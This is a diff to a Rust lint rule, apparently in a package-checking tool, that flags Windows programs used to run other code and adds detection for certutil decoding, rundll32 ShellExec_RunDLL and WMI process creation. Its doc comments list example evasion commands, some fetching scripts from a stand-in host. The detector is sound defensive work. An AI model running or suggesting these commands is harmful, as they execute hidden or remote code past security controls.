@@ -3,6 +3,7 @@
 use crate::lint::{Context, Findings, Severity, lint};
 use crate::package::{Package, RunCall};
 use crate::script::Language;
+use crate::script::command_line::Through;
 
 lint! {
     /// A program of Windows is used to run other code.
@@ -19,6 +20,7 @@ lint! {
     /// mshta.exe https://cdn.fabrikam.example/setup.hta
     /// regsvr32 /s /n /u /i:https://cdn.fabrikam.example/a.sct scrobj.dll
     /// rundll32 url.dll,FileProtocolHandler C:\Windows\Temp\a.exe
+    /// rundll32 shell32.dll,ShellExec_RunDLL C:\Windows\Temp\a.exe
     /// cmstp.exe /s C:\Windows\Temp\vpn.inf
     /// odbcconf /a {REGSVR C:\Windows\Temp\a.dll}
     /// pcalua.exe -a C:\Windows\Temp\a.exe
@@ -29,6 +31,11 @@ lint! {
     /// ```batch
     /// wmic process call create "C:\Windows\Temp\a.exe"
     /// forfiles /p C:\Windows /m notepad.exe /c "powershell -c Get-Date"
+    /// certutil -decode setup.txt C:\Windows\Temp\setup.exe
+    /// ```
+    ///
+    /// ```powershell
+    /// Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{ CommandLine = 'a.exe' }
     /// ```
     ///
     /// ## Stays quiet
@@ -39,6 +46,7 @@ lint! {
     /// regsvr32 /s "C:\Program Files\Fabrikam\reader.dll"
     /// forfiles /p C:\Fabrikam\logs /m *.log /d -30 /c "cmd /c del @path"
     /// wmic process where name='reader.exe' get processid
+    /// certutil -decode root.txt C:\Windows\Temp\root.cer
     /// ```
     ///
     /// ## What to do
@@ -56,7 +64,31 @@ lint! {
 }
 
 fn check(package: &Package, _: &Context, findings: &mut Findings<'_>) {
-    for call in package.calls().filter(|call| call.is_program()) {
+    for call in package.calls() {
+        if !call.is_program() {
+            if creates_process(&call) {
+                findings
+                    .at(call)
+                    .say(format!(
+                        "a program is started through {} of Win32_Process, which is a way around controls",
+                        call.program.text()
+                    ))
+                    .lowered_to(Severity::Warning)
+                    .help("call the program itself, or a script that the package carries");
+            }
+            continue;
+        }
+        if let Some(target) = unpacked(&call) {
+            findings
+                .at(call)
+                .say(format!(
+                    "certutil makes {target} out of text, so that nobody sees the program in the \
+                     package"
+                ))
+                .lowered_to(Severity::Warning)
+                .help("carry the file itself");
+            continue;
+        }
         let Some((what, is_grave)) = used(package, &call) else { continue };
         let finding = findings
             .at(call)
@@ -66,6 +98,26 @@ fn check(package: &Package, _: &Context, findings: &mut Findings<'_>) {
             drop(finding.lowered_to(Severity::Warning));
         }
     }
+}
+
+/// Whether a command of PowerShell, or a method, has WMI start a program.
+fn creates_process(call: &RunCall<'_>) -> bool {
+    // `mshta` itself is told then.
+    if call.through().any(|through| through == Through::Mshta) {
+        return false;
+    }
+    let inner = call.runs().next();
+    inner.is_some_and(|inner| inner.through().next() == Some(Through::ProcessCreate))
+}
+
+/// The program or script that `certutil -decode` writes.
+fn unpacked<'c>(call: &'c RunCall<'_>) -> Option<&'c str> {
+    let decodes = call.is("certutil") && call.has_switch(&["decode", "decodehex"]);
+    let target = call.texts().filter(|text| !text.starts_with(['-', '/'])).nth(1)?;
+    let name = target.rsplit(['\\', '/']).next().unwrap_or(target);
+    let (_, extension) = name.rsplit_once('.').filter(|_| decodes)?;
+    let runs = ["exe", "dll", "com", "scr", "msi", "ps1", "bat", "cmd", "vbs", "js", "hta"];
+    runs.iter().any(|one| one.eq_ignore_ascii_case(extension)).then_some(name)
 }
 
 /// What a program is used to run, and whether there is no other reason to use it.
@@ -98,6 +150,9 @@ fn used(package: &Package, call: &RunCall<'_>) -> Option<(&'static str, bool)> {
             ("another program", true)
         }
         "rundll32" if has("zipfldr") && has("routethecall") => ("another program", true),
+        "rundll32" if has("shell32") && has("shellexec_rundll") => ("another program", true),
+        "rundll32" if has("advpack") && has("launchinfsection") => ("what an INF file says", true),
+        "wmic" if has("/format:") && is_remote() => ("a style sheet from the network", true),
         "cmstp" if file(".inf") => ("what an INF file says", true),
         "odbcconf" if has("regsvr") || file(".rsp") => ("a library", true),
         "pcalua" if call.option("a").is_some() => ("another program", true),
